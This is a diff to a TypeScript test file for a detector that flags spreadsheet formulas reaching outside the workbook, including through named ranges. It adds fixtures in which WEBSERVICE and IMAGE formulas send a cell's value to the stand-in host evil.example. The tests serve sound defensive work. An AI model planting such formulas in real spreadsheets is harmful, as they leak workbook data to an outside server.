@@ -9,6 +9,8 @@ const NAMES = new Map<string, readonly string[]>([
   ['nested', ['=leak']],
   ['shadowed', ['=Model!$A$2', '=EVALUATE("1+1")']],
   ['circular', ['=circular+1']],
+  ['abs', ['=WEBSERVICE("https://evil.example/?"&Model!$A$1)']],
+  ['q1.leak', ['=IMAGE("https://evil.example/?"&Model!$A$1)']],
 ]);
 
 describe('what a formula reaches for', () => {
@@ -50,6 +52,8 @@ describe('what a formula reaches for', () => {
     ['=LET(WEBSERVICE,1,KER.PROP(A2,WEBSERVICE(A1)))', 'WEBSERVICE'],
     ['=KER.PROP(leak,"x")', 'WEBSERVICE'],
     ['=KER.PROP(nested,"x")', 'WEBSERVICE'],
+    ['=KER.PROP(ABS,"x")', 'WEBSERVICE'],
+    ['=KER.PROP(Q1.leak,"x")', 'IMAGE'],
     ['=KER.PROP(Model!shadowed,"x")', 'EVALUATE'],
     ['=KER.PROP(unheard,"x")', 'unheard'],
   ])('%s reaches outside by %s', (formula, what) => {
